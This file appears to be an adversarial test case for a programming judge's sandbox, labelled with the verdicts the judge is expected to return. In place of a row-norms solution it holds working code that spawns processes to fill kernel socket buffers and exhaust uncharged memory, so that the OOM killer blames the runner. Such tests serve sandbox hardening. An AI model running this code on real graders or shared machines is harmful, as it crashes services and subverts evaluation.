# goal: memory that counts for nobody, so that the kernel takes the runner for the culprit
# problem: row-norms
# expect: Memory Limit Exceeded | Wrong Answer | Runtime Error | Time Limit Exceeded

import os

CODE = """
import os, socket, time
try:
    open('/proc/self/oom_score_adj', 'w').write('0')
except OSError:
    pass
kept = []
for _ in range(55):
    a, b = socket.socketpair()
    a.setblocking(False)
    a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
    kept.append((a, b))
    try:
        while True:
            a.send(bytes(2**16))
    except OSError:
        pass
time.sleep(0.2)
"""


def row_norms(X):
    children = [
        os.spawnv(os.P_NOWAIT, "/usr/bin/python3", ["python3", "-I", "-S", "-c", CODE]) for _ in range(10)
    ]
    for child in children:
        os.waitpid(child, 0)
    return None
